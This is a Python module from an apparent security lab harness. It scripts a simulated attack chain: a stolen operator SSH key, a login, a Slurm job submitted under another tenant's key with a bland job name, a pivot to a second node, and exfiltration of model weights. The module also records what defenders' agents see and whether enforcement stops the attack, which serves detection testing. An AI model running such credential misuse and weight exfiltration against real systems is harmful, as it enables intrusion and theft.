"""The founding story: a stolen key, a login, a job, a pivot, and the weights on their way out."""

import shlex
from collections.abc import Sequence

from ringfence.app.lab import keyring
from ringfence.app.lab.inside import said
from ringfence.app.lab.kinds import exfiltrate
from ringfence.app.lab.kinds.kind import About
from ringfence.app.lab.layout import ALICE, OPERATOR, Machine
from ringfence.app.lab.stage import Stage
from ringfence.errors import EnforceError

about = About(
    name="story",
    title="The founding story, from key to weights",
    what="With the operator's key, stolen on the workstation, somebody logs in to the login host, finds the key of an "
    "account of tenant a there and submits a job with it; the job logs in to the next node, reads the model there, "
    "outside any job, and sends it outside.",
    seen="each login, by the hosts' agents; the connection outside and its bytes, by that of the last node",
)


def play(stage: Stage, rate: float) -> Sequence[str]:
    """Three steps, each with what the one before it found."""
    stage.say("began")
    lent = stage.folder / "found.key"
    keyring.found_key(stage, ALICE, OPERATOR, lent)
    keyring.found_key(stage, ALICE, ALICE, keyring.home(stage, ALICE) / ".ssh" / "id_ed25519")
    start, end = stage.node(), stage.node(1)
    script = stage.folder / "pivot.sh"
    script.write_text(f"#!/bin/sh\n{_pivot(stage, end, rate)}\n")
    try:
        job = _submitted(stage, start, str(lent), str(script))
    except EnforceError as stopped:
        return (f"it came no further than the login host: {str(stopped)[-200:].strip()}",)
    ran = f"job {job} on {start.name}, then {end.name}" if stage.running(job) else f"job {job}, which did not run"
    return (f"ws, login, {ran}",)


def longest(rate: float) -> float:
    """The logins, and as long as the weights take."""
    return 15.0 + exfiltrate.longest(rate)


def hosts(stage: Stage) -> tuple[str, ...]:
    """Every host on the way."""
    return ("login", stage.node().name, stage.node(1).name)


def _pivot(stage: Stage, end: Machine, rate: float) -> str:
    key = f"/home/{ALICE.name}/.ssh/id_ed25519"
    return shlex.join(keyring.ssh(stage, key, f"{ALICE.name}@{end.name}", command=stage.carrying(rate)))


def _submitted(stage: Stage, node: Machine, key: str, script: str) -> str:
    """The number of the job that the account submits, over the operator's login."""
    submit = f"sbatch --parsable --output=/dev/null --job-name=prepare -w {node.name} {script}"
    conf = f"SLURM_CONF={stage.layout.slurm_conf}"
    second = f"ssh -F {keyring.config(stage)} -i {key} {ALICE.name}@login {conf} {submit}"
    first = keyring.ssh(stage, f"/home/{OPERATOR.name}/.ssh/id_ed25519", f"{OPERATOR.name}@login", command=second)
    job = said(stage.layout, stage.layout.machine("ws"), first, account=OPERATOR).strip()
    stage.took(job)
    return job
